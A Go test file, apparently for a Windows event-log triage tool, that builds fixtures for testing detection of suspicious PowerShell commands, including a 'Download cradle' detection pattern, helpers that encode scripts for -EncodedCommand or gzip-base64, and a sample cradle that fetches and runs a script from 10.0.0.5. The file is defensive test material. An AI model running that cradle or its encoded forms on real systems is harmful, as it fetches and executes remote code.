package detect

import (
	"bytes"
	"encoding/base64"
	"testing"
	"time"

	"evtriage/config"
	"evtriage/core"
	"evtriage/patterns"

	"github.com/klauspost/compress/gzip"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"
	"golang.org/x/text/encoding/unicode"
)

type staticSource struct {
	detection []patterns.NamedPattern
	whitelist []string
}

func (s staticSource) LoadDetection() (patterns.ReadResult[patterns.NamedPattern], error) {
	return patterns.ReadResult[patterns.NamedPattern]{Rows: s.detection}, nil
}

func (s staticSource) LoadWhitelist() (patterns.ReadResult[string], error) {
	return patterns.ReadResult[string]{Rows: s.whitelist}, nil
}

var downloadCradle = patterns.NamedPattern{Name: "Download cradle", Pattern: `downloadstring`}

func newSnapshot(t *testing.T, whitelist []string, detection ...patterns.NamedPattern) *config.Snapshot {
	t.Helper()
	src := staticSource{detection: detection, whitelist: whitelist}
	return config.NewStore(config.Default(), src, zaptest.NewLogger(t).Sugar()).Get()
}

func newAnalyzer(t *testing.T, whitelist []string, detection ...patterns.NamedPattern) *CommandAnalyzer {
	t.Helper()
	a, err := NewCommandAnalyzer(newSnapshot(t, whitelist, detection...), zaptest.NewLogger(t).Sugar())
	require.NoError(t, err)
	return a
}

// encodeCommand produces the argument PowerShell expects after -EncodedCommand.
func encodeCommand(t *testing.T, script string) string {
	t.Helper()
	b, err := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewEncoder().Bytes([]byte(script))
	require.NoError(t, err)
	return base64.StdEncoding.EncodeToString(b)
}

func gzipBase64(t *testing.T, text string) string {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	_, err := zw.Write([]byte(text))
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

var testTime = time.Date(2019, 3, 19, 23, 34, 25, 0, time.UTC)

func newEvent(recordID uint64, channel, eventID string, data map[string]string) *core.Event {
	if data == nil {
		data = map[string]string{}
	}
	return &core.Event{
		RecordID: recordID,
		System: core.System{
			EventID:     eventID,
			Channel:     channel,
			TimeCreated: testTime.Add(time.Duration(recordID) * time.Second),
		},
		EventData: data,
	}
}

const cradleScript = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"
